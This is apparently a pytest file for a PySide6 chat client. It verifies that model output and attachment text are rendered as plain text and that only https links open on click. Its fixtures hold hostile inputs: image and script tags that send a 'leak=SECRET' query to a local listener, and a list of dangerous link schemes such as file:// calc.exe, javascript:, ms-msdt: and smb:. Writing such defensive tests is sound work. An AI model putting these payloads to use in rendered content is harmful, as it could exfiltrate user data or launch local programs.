"""What models and strangers write is text, wherever the window shows it: nothing is fetched, read
or opened by showing it, and nothing of it is lost."""

import socket
from dataclasses import replace

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtGui import QColor, QGuiApplication, QImage
from PySide6.QtWidgets import QApplication, QLabel, QLineEdit, QTextEdit, QWidget

from app.chats.conversation import Attachment
from app.widgets import text as texts
from app.widgets.answer_menu import copy_markdown, copy_rich
from app.widgets.bubble import Bubble
from app.widgets.turn import AnswerTurn
from tests.fakes import ScriptedSession, chunks_of

INK = QColor("#fe01fd")  # of a picture that must not be seen


@pytest.fixture
def listener():
    with socket.socket() as made:
        made.bind(("127.0.0.1", 0))
        made.listen()
        made.settimeout(0.1)
        yield made


@pytest.fixture
def fetching(listener, tmp_path):
    """REM-1: a text that a viewer would fetch or read something for."""
    picture = QImage(40, 40, QImage.Format.Format_RGB32)
    picture.fill(INK)
    assert picture.save(str(tmp_path / "p.png"))
    at = f"http://127.0.0.1:{listener.getsockname()[1]}"
    return (
        f"<img src='{tmp_path}/p.png'> <img src='{at}/q.png'> ![x]({at}/p.png?leak=SECRET)\n\n"
        f"![f](file://{tmp_path}/p.png) <b>needle</b> ![d](data:image/png;base64,AAAA)\n\n"
        f"<script>fetch('{at}/s')</script>"
    )


def pieces(text, size=20):
    return [text[start : start + size] for start in range(0, len(text), size)]


def ask(qtbot, program, question):
    with qtbot.waitSignal(program.chat.answered, timeout=20_000):
        program.chat.send(question, program.window.composer._writing.attachments)


def reopen(qtbot, program):
    """Leave the chat, so that it is built again from the store."""
    name, count = program.chat.chat_id, len(program.chat.turns)
    program.window.new_chat()
    qtbot.waitUntil(lambda: not program.window.findChildren(AnswerTurn))
    program.conversations.open(name)
    qtbot.waitUntil(lambda: len(program.chat.turns) == count)
    qtbot.waitUntil(lambda: bool(program.window.findChildren(AnswerTurn)))


def last(program, kind):
    return program.window.findChildren(kind)[-1]


def assert_nothing_came(program, listener):
    """No connection, no picture, and no text that Qt would take for markup."""
    QApplication.processEvents()
    shot = program.window.grab().toImage()
    points = ((x, y) for x in range(0, shot.width(), 4) for y in range(0, shot.height(), 4))
    assert all(shot.pixelColor(*point) != INK for point in points)
    for widget in program.window.findChildren(QWidget):
        assert "<img" not in widget.toolTip()
        if isinstance(widget, QLabel) and "<img" in widget.text():
            assert widget.textFormat() is Qt.TextFormat.PlainText
        if isinstance(widget, QTextEdit):
            assert "\ufffc" not in widget.toPlainText()
    with pytest.raises(TimeoutError):
        listener.accept()


def test_nothing_is_fetched_wherever_a_text_is_shown(qtbot, open_program, listener, fetching):
    answer = chunks_of(pieces(fetching))
    thinking = [replace(chunk, text="", reasoning=chunk.text) for chunk in answer[:-1]]
    program = open_program(ScriptedSession([*thinking, *answer], pause=0.001))
    program.models.set("thinking", True)
    program.window.composer._writing.attach([Attachment(f"<img src='{listener}'>.txt", fetching)])
    ask(qtbot, program, fetching)
    for _ in range(2):
        turn, bubble = last(program, AnswerTurn), last(program, Bubble)
        for chip in bubble.chips:
            chip.head.setChecked(True)
        turn._thought._fold.setChecked(True)
        qtbot.waitUntil(turn._thought._text.isVisible)
        for shown in (turn.body, turn._thought._text, bubble.body, bubble.chips[0]._viewer):
            assert "needle" in shown.toPlainText()
            assert "/p.png?leak=SECRET" in shown.toPlainText()
        assert_nothing_came(program, listener)
        reopen(qtbot, program)


def test_nothing_is_fetched_by_the_line_that_was_found(qtbot, open_program, listener, fetching):
    program = open_program(ScriptedSession(chunks_of(pieces(fetching))))
    ask(qtbot, program, "hi")
    search = program.window.chats.findChildren(QLineEdit)[0]
    qtbot.keyClicks(search, "needle")
    qtbot.waitUntil(lambda: any("needle" in line.around for line in program.conversations.lines))
    assert_nothing_came(program, listener)


BLOCKED = (
    ("a", "file:///C:/Windows/System32/calc.exe"),
    ("b", "javascript:alert(1)"),
    ("c", "ms-msdt:/id"),
    ("d", "smb://host/share"),
    ("e", r"\\host\share\x"),
    ("f", "./update.js"),
)


@pytest.mark.parametrize("again", [False, True], ids=["streamed", "reopened"])
def test_only_the_web_link_is_opened_by_a_click(qtbot, open_program, monkeypatch, again):
    """REM-2: each link is clicked on its words and on its address."""
    opened = []
    monkeypatch.setattr(texts.QDesktopServices, "openUrl", lambda url: opened.append(url))
    source = ", ".join(f"[{words} link]({to})" for words, to in BLOCKED)
    source += ", [g link](https://example.org/)"
    program = open_program(ScriptedSession(chunks_of(pieces(source))))
    ask(qtbot, program, "hi")
    if again:
        reopen(qtbot, program)
    body = last(program, AnswerTurn).body
    shown = body.toPlainText()
    for words, to in BLOCKED:
        address = to.replace("\\\\", "\\")  # as Markdown has it
        assert f"{words} link ({address})" in shown
        for part in (f"{words} link", address):
            click(qtbot, body, part)
    assert opened == []
    assert shown.endswith("g link (example.org)")
    click(qtbot, body, "g link")
    assert [url.toString() for url in opened] == ["https://example.org/"]
    assert body.source().isEmpty()
    assert body.toPlainText() == shown


def click(qtbot, body, part):
    """On the middle of the first letters of a part of what is shown."""
    found = body.document().find(part)
    assert found.hasSelection()
    found.setPosition(found.selectionStart() + 1)
    spot = body.cursorRect(found).center() + QPoint(2, 0)
    assert body.viewport().rect().contains(spot)
    qtbot.mouseClick(body.viewport(), Qt.MouseButton.LeftButton, pos=spot)


QUESTION = "what is enclosed in <>\n<channel>"
NESTED = "```markdown\nbefore\n```text\ninner\n```\n## Notes\n```"
ANSWER = f"#include <stdio.h>\n\n{NESTED}\n\nIt costs $5 today and $10 tomorrow, and \\(x^2\\)"


def test_brackets_fences_and_prices_are_whole_in_bubble_history_and_copy(qtbot, open_program):
    """TXT-1, with the input of the case."""
    program = open_program(ScriptedSession(chunks_of(pieces(ANSWER))))
    ask(qtbot, program, QUESTION)
    for _ in range(2):
        assert last(program, Bubble).body.toPlainText() == QUESTION
        body = last(program, AnswerTurn).body
        shown = body.toPlainText()
        assert shown.startswith("#include <stdio.h>\n")
        assert "before\n```text\ninner\n```\n## Notes\n" in shown
        assert shown.endswith("It costs $5 today and $10 tomorrow, and \ufffc")
        assert [card.title for card in body._writer.cards] == ["Markdown"]
        assert [found.source for _, found in body._writer.formulas] == ["x^2"]
        last(program, AnswerTurn).footer.copy.click()
        assert QGuiApplication.clipboard().text() == ANSWER
        reopen(qtbot, program)
    copy_markdown(program.chat.turns[-1].text)
    assert QGuiApplication.clipboard().text() == ANSWER
    copy_rich(program.chat.turns[-1].text)
    copied = QGuiApplication.clipboard().mimeData()
    assert copied.text() == ANSWER
    assert "#include &lt;stdio.h&gt;" in copied.html()
    assert "```text\ninner\n```\n## Notes\n</code>" in copied.html()
    assert "<code>\\(x^2\\)</code>" in copied.html()
